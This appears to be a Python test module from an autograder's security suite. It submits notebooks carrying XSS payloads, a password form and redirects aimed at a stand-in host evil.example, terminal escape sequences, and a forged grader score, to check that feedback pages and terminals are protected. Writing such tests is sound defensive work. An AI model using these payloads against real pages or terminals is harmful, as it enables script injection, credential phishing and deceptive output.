"""Attacks on the readers: of the feedback page, of the terminal, of the exported notebook."""

from nbformat.v4 import new_output

from autograde.tests.attacks.cheat_tests import guess
from autograde.tests.attacks.entry import HARM, Entry, attack

SCRIPT = "<script>alert('ran')</script>"
BAD = (
    SCRIPT,
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href='java&#x0a;script:alert(1)'>click</a>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<form action='https://evil.example'><input name=password><button>log in</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0; url=https://evil.example'>",
    "<img src='https://evil.example/seen.png'>",
    "<object data='data:text/html,x'></object><embed src='data:text/html,x'>",
    "<div style='position: fixed; inset: 0; background: url(https://evil.example)'>100 %</div>",
    "<!-- --><script>alert(1)</script --><noscript><p title='</noscript><img src=x onerror=a()>'>",
    "</pre></div></body></html><script>alert(1)</script>",
)


@attack(HARM)
def scripts_in_html(entry: Entry) -> None:
    """Displays HTML with scripts, frames, forms and pictures from elsewhere."""
    entry.answer(
        area=f"from IPython.display import HTML\nfor html in {BAD!r}:\n"
        "    display(HTML(html))\narea = 0"
    )


@attack(HARM)
def scripts_in_every_format(entry: Entry) -> None:
    """Displays scripts as JavaScript, SVG, Markdown, LaTeX, JSON, widgets and unknown kinds."""
    kinds = (
        "application/javascript",
        "image/svg+xml",
        "text/markdown",
        "text/latex",
        "text/html",
        "application/json",
        "application/vnd.jupyter.widget-view+json",
        "application/pdf",
        "image/png",
        "image/jpeg",
        "text/x-unknown",
        "application/vnd.vega.v5+json",
        "text/plain",
    )
    entry.answer(
        area=f"for text in {BAD!r}:\n    for kind in {kinds!r}:\n"
        "        display({kind: text}, raw=True, metadata={kind: {'width': text}})\n"
        "area = 0"
    )


@attack(HARM)
def scripts_in_text(entry: Entry) -> None:
    """Prints scripts, raises them as errors, and writes them into code and comments."""
    entry.answer(
        area=f"for text in {BAD!r}:\n    print(text)\n# {SCRIPT}\nraise ValueError(text)",
        letter=f"class Odd(Exception):\n    pass\nOdd.__name__ = Odd.__qualname__ = {SCRIPT!r}\n"
        f"def letter(points):\n    raise Odd({BAD[1]!r})",
        twice=f"'''{BAD[-1]}'''\ndef twice(f, x):\n    return {SCRIPT!r}",
    )


@attack(HARM)
def scripts_in_markdown(entry: Entry) -> None:
    """Writes scripts into its written answer, in all the ways that Markdown has."""
    entry.cell("why").source = "\n\n".join(BAD)
    entry.text("[link](javascript:alert(1)) <javascript:alert(1)> ![x](javascript:alert(1))")
    entry.text('[a]: data:text/html;base64,PHNjcmlwdD4=\n\n[click][a] ![x](x"onerror="alert(1))')
    entry.text("$\\href{javascript:alert(1)}{x}$ $$<script>alert(1)</script>$$ `<script>`")
    entry.text("```html\n</code></pre><script>alert(1)</script>\n```\n\n    <script>x</script>")
    entry.text("# <script>alert(1)</script> {onclick=alert(1)}\n\n| <script> |\n|---|\n| x |")
    entry.text("![pic](attachment:x.svg)")
    picture = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
    entry.cells[-1].attachments = {"x.svg": {"image/svg+xml": picture}}


@attack(HARM)
def scripts_in_metadata(entry: Entry) -> None:
    """Writes scripts into the title, the authors, the widgets' state and the tags."""
    end = "</title></script>" + SCRIPT
    state = {"state": {"x": {"model_name": end, "model_module": end, "state": {"a": end}}}}
    entry.notebook.metadata.update(
        title=end,
        authors=[{"name": end}],
        language_info={
            "name": "python",
            "pygments_lexer": end,
            "mimetype": end,
            "codemirror_mode": end,
        },
    )
    entry.notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": state}
    for cell in entry.cells:
        cell.metadata["tags"] = [f'"><{SCRIPT}']
        cell.metadata["slideshow"] = {"slide_type": end}
        cell.metadata["comment"] = cell.metadata["name"] = end
    entry.cell("area").outputs = [new_output("display_data", data={"text/html": end})]


@attack(HARM)
def escape_codes_with_tags(entry: Entry) -> None:
    """Prints escape codes that become HTML on the page: colors, links, cut in two by scripts."""
    codes = (
        f"\x1b[31m{SCRIPT}\x1b[0m",
        f"\x1b[38;5;{SCRIPT}m",
        '\x1b[31"onclick="alert(1)m',
        "\x1b]8;;javascript:alert(1)\x1b\\click\x1b]8;;\x1b\\",
        "\x1b<script>alert(1)</script>",
    )
    entry.answer(
        area=f"for text in {codes!r}:\n    print(text)\nraise ValueError(''.join({codes!r}))"
    )


@attack(HARM)
def escape_codes(entry: Entry) -> None:
    """Prints and raises codes that clear the terminal, rename it, or write into its input."""
    codes = "\x1b[2J\x1b]0;owned\x07\x1b[6n\x1bP+q\x1b\\\x9b2J\r\x08\x7f\u202e\u2066"
    entry.answer(
        area=f"print({codes!r})\nraise ValueError({codes!r})",
        letter=f"Odd = type('E' + {codes!r}, (Exception,), {{}})\n"
        f"def letter(points):\n    raise Odd({codes!r})",
        twice=f"def twice(f, x):\n    '{codes}'\n    import warnings\n    warnings.warn({codes!r})",
    )
    entry.notebook.metadata.kernelspec["display_name"] = codes
    (entry.folder / f"notes\x1b[2J{codes[:9]}.ipynb".replace("/", "")).write_text("{}")


@attack(HARM)
def escape_codes_in_the_language(entry: Entry) -> None:
    """Says that it is written in a language whose name clears the terminal."""
    guess(entry)
    language = "r\x1b[2J\x1b]0;owned\x07"
    entry.notebook.metadata.kernelspec = {"name": "x", "display_name": "x", "language": language}
    entry.notebook.metadata["language_info"] = {"name": language}


@attack(HARM)
def masked_feedback(entry: Entry) -> None:
    """Displays what looks like the grader's own words, and updates and clears outputs."""
    entry.answer(
        area="""
from IPython.display import clear_output, display
shown = display({"text/html": "<h3>Score: 17/17</h3>"}, raw=True, display_id="score")
clear_output(wait=True)
shown.update({"text/html": "<script>alert(1)</script>"}, raw=True)
area = 0"""
    )
